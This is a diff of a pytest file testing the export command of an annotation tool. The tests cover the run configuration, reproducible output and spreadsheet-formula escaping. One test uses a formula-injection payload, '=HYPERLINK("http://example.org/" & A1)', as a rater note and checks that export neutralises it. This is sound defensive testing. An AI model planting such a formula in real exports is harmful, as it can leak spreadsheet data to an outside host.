@@ -4,16 +4,21 @@ from __future__ import annotations
 
 import csv
 import json
+from pathlib import Path
 
 import pytest
+import yaml
 from typer.testing import CliRunner
 
 from faithfuse.analysis.ratings import read_ratings
 from faithfuse.annotate import adjudicate, export, figures, judge, sources
 from faithfuse.annotate.store import Store
 from faithfuse.cli import app
+from faithfuse.config import parse_config
 from faithfuse.errors import InputError
 from faithfuse.records import Domain, Rating
+
+CONFIG = Path(__file__).resolve().parents[3] / "config"
 
 
 def run(*arguments):
@@ -80,14 +85,52 @@ def test_an_exported_folder_is_a_data_folder_of_the_workflow(rated, tmp_path):
     assert len(responses) == 24  # those outside the sample too
 
 
+def test_an_exported_folder_brings_the_configuration_that_runs_the_workflow_on_it(rated, tmp_path):
+    study, _ = rated
+    out = tmp_path / "rated"
+    run("annotate", "export", study.folder, "--out", out)
+    overlay = yaml.safe_load((out / "run.yaml").read_text())
+    base = yaml.safe_load((CONFIG / "config.yaml").read_text())
+    merged = parse_config(base | overlay | {"llm": base["llm"] | overlay["llm"]})
+    assert merged.data[0].folder() == str(out)
+    assert merged.domains == [Domain.LONG_FORM_QA, Domain.SUMMARISATION]
+    assert not merged.llm.respond
+
+
+def test_a_note_is_no_formula_to_a_spreadsheet_and_ids_stay_as_they_are(make_study, made, tmp_path):
+    item = made.item(1, item_id="=item")
+    study = make_study(sources.Material([item], [made.response("=item")]))
+    store = Store(study.database)
+    note = '=HYPERLINK("http://example.org/" & A1)'
+    judge.save(store, "anna", 1, request_id="anna-formula", base=0, likert=3, note=note)
+    run("annotate", "export", study.folder, "--out", tmp_path / "rated")
+    with (tmp_path / "rated" / "history.csv").open() as stream:
+        (row,) = csv.DictReader(stream)
+    assert row["note"] == f"'{note}"
+    assert row["item_id"] == "'=item"
+    assert [rating.item_id for rating in read_ratings(tmp_path / "rated" / "ratings.csv")] == ["=item"]
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "  =1"])
+def test_what_would_start_a_formula_gets_an_apostrophe(text):
+    assert export.safe_in_spreadsheets({"a": text, "b": 3, "c": None, "d": "plain - text"}) == {
+        "a": f"'{text}",
+        "b": 3,
+        "c": None,
+        "d": "plain - text",
+    }
+
+
 def test_the_same_state_gives_the_same_bytes(rated, tmp_path):
     study, _ = rated
     for name in ("one", "two"):
-        run("annotate", "export", study.folder, "--out", tmp_path / name)
-    files = sorted(path.name for path in (tmp_path / "one").iterdir())
+        run("annotate", "export", study.folder, "--out", tmp_path / name / "rated")
+    files = sorted(path.name for path in (tmp_path / "one" / "rated").iterdir())
     assert "data_dictionary.csv" in files
-    for name in files:
-        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()
+    for name in set(files) - {"run.yaml"}:  # which names its folder
+        assert (tmp_path / "one" / "rated" / name).read_bytes() == (tmp_path / "two" / "rated" / name).read_bytes()
+    store = Store(study.database)
+    assert export.zipped(store, study.settings) == export.zipped(store, study.settings)
 
 
 def dictionary_of(folder):
